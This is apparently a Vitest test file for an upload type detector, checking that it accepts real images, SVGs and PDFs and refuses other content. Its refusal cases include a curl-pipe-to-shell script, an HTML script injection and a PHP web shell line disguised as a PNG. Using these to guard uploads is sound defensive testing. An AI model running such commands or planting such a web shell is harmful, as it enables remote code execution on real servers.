// The type of an upload is read from its bytes: real images, SVG drawings and PDFs are recognised whatever
// they are called, and anything else (a script, a web page, an archive) is refused even when named like an image.
import { PDFDocument } from "pdf-lib";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { detectUploadType } from "./detect.server";

const canvas = () => sharp({ create: { width: 32, height: 24, channels: 3, background: "#2a6" } });

describe("detectUploadType", () => {
  it.each([
    ["jpeg", () => canvas().jpeg().toBuffer(), "image/jpeg"],
    ["png", () => canvas().png().toBuffer(), "image/png"],
    ["webp", () => canvas().webp().toBuffer(), "image/webp"],
    ["gif", () => canvas().gif().toBuffer(), "image/gif"],
    ["avif", () => canvas().avif().toBuffer(), "image/avif"],
  ])("recognises a %s image from its content", async (_name, make, mimeType) => {
    expect(await detectUploadType(await make())).toEqual({ kind: "image", mimeType });
  });

  it.each([
    ["a bare drawing", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 10"><rect width="40" height="10"/></svg>'],
    ["a drawing with an XML declaration, a comment and a doctype", '\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<!-- logo -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg\n xmlns="http://www.w3.org/2000/svg"></svg>'],
  ])("recognises an SVG drawing: %s", async (_name, content) => {
    expect(await detectUploadType(new TextEncoder().encode(content))).toEqual({ kind: "image", mimeType: "image/svg+xml" });
  });

  it("recognises a PDF document", async () => {
    const document = await PDFDocument.create();
    document.addPage();
    expect(await detectUploadType(await document.save())).toEqual({ kind: "pdf", mimeType: "application/pdf" });
  });

  it.each([
    ["a shell script", "#!/bin/sh\ncurl https://example.org/x | sh\n"],
    ["an HTML page", "<!doctype html><script>alert(1)</script>"],
    ["an XML document that is not a drawing", '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>'],
    ["an HTML page with an SVG inside", '<html><body><svg xmlns="http://www.w3.org/2000/svg"></svg></body></html>'],
    ["plain text", "just some words"],
    ["nothing at all", ""],
  ])("refuses %s", async (_name, content) => {
    expect(await detectUploadType(new TextEncoder().encode(content))).toBeUndefined();
  });

  it("refuses other binary formats, such as a ZIP archive", async () => {
    const zip = Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00, ...new Array(40).fill(0)]);
    expect(await detectUploadType(zip)).toBeUndefined();
  });

  it("refuses a script whose first bytes merely start like a PNG's name", async () => {
    expect(await detectUploadType(new TextEncoder().encode("PNG\n<?php system($_GET['c']); ?>"))).toBeUndefined();
  });
});
